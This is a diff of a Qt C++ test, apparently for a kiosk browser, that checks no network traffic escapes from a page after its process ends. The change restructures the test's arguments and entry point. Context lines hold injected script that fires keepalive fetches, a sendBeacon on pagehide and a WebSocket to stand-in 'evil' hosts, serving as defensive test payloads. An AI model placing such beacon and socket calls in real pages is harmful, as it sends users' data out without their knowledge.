@@ -99,9 +99,12 @@ void GateTest::nothingArrivesFromAProcessThatEnds()
                              + "', {mode: 'no-cors', keepalive: true}); setInterval(ask, 1); ask();"
                                "onpagehide = () => navigator.sendBeacon('"
                              + evil("hides") + "', 'a'); new WebSocket('ws:" + evil("talks") + "')</script>"));
-    const QStringList arguments{QString::fromLatin1(leave),
+    const QStringList arguments{QStringLiteral("GateTest"),
+                                QString::fromLatin1(leave),
                                 m_server.url(QStringLiteral("id.localhost"), QStringLiteral("/leave")).toString(),
-                                QString::number(m_gate.port()), m_gate.token(), QString::number(m_recorder.port())};
+                                QString::number(m_gate.port()),
+                                m_gate.token(),
+                                QString::number(m_recorder.port())};
     QProcess session;
     session.setProcessChannelMode(QProcess::ForwardedErrorChannel);
     session.start(QCoreApplication::applicationFilePath(), arguments);
@@ -110,13 +113,12 @@ void GateTest::nothingArrivesFromAProcessThatEnds()
     QCOMPARE(m_recorder.connections(), 0);
 }
 
-int main(int argc, char **argv)
-{
+KIOSK_TEST_RUN_BY(GateTest, [](int argc, char **argv) {
     if (argc == 6 && std::string_view(argv[1]) == leave) {
         prepareEngineEnvironment();
         QApplication application(argc, argv);
         return leaveWithPageAlive(application, QCoreApplication::arguments());
     }
     return runWithoutDefences<GateTest>(argc, argv, Packets::Refused);
-}
+})
 #include "GateTest.moc"
